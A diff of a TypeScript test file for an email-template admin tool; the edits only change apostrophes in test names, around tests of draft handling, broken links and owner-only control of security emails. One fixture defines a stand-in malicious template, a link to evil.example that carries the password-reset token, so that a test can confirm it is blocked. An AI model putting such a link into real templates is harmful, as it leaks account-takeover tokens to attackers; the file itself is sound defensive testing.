@@ -124,7 +124,7 @@ test("a draft changes no email, and nobody can rename one", async () => {
   await admin.discardChanges(ann, { type: "email", id, revision: newest });
 });
 
-test("a text without its link, or with a link that leads nowhere, isn't published", async () => {
+test("a text without its link, or with a link that leads nowhere, isn’t published", async () => {
   const problem = await publish({ body: "Hi. Read [this](/nowhere)." }).catch(
     (error: AppError) => wordsOf(error).fields,
   );
@@ -162,13 +162,13 @@ test("a preview shows made-up data, and a test email goes to the person who asks
   ).rejects.toMatchObject({ reason: "fields_invalid" });
 });
 
-describe("a security email's text", () => {
+describe("a security email’s text", () => {
   const editor: Actor = { ...ann, id: "ed", name: "Ed", role: "editor" };
   const target = { type: "email" as const, id: "password-reset" };
   const evil = "[Reset](https://evil.example/r?u={{reset-link}})";
   const record = () => admin.getRecord(ann, target);
 
-  test("is the owners' alone, by every way to change it", async () => {
+  test("is the owners’ alone, by every way to change it", async () => {
     const { revision, data } = await record();
     const others = { ...target, revision, at: null };
     for (const tried of [
@@ -191,7 +191,7 @@ describe("a security email's text", () => {
     expect((await admin.describeEmail(editor, { id: "welcome" })).ownersOnly).toBe(false);
   });
 
-  test("that sends the token elsewhere isn't published, even by an owner", async () => {
+  test("that sends the token elsewhere isn’t published, even by an owner", async () => {
     const { revision, data } = await record();
     const saved = await admin.saveRecord(ann, {
       ...target,
